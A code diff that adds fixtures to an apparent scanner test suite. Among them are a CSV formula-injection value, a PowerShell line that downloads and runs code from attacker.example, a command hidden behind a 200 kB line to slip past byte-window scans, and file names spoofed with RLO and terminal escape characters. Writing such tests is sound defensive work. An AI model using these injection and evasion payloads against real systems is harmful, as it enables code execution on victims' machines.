@@ -128,3 +128,20 @@ def txt_named_vbs_trailing_space(work: Path) -> bytes:
 @sample("txt_rtlo_name", "\u202etxt.exe", "script-name", "RLO (U+202E) name spoofing: shows as 'exe.txt'")
 def txt_rtlo_name(work: Path) -> bytes:
     return "お知らせ\r\n".encode()
+
+
+_csv_sample("csv_cr_only_line_endings", "山田,-1\r佐藤,=cmd|' /C calc'!A0\r", "classic Mac CR-only line ends: Excel splits rows on CR",
+            header="氏名,金額\r")
+_script_sample(
+    "txt_powershell_utf16", "# メモ\r\nIEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\r\n",
+    "PowerShell saved as UTF-16 (Notepad 'Unicode'): the statements are not ASCII bytes", "utf-16",
+)
+_script_sample(
+    "txt_script_after_long_line", "A" * 200_000 + "\r\nStart-Process calc.exe\r\n",
+    "a 200 kB first line pushes the statements past a byte-window scan",
+)
+
+
+@sample("txt_control_chars_in_name", "\x1b[2J\r.txt", "script-name", "terminal escape and CR in a file name (log/console injection)")
+def txt_control_chars_in_name(work: Path) -> bytes:
+    return "お知らせ\r\n".encode()
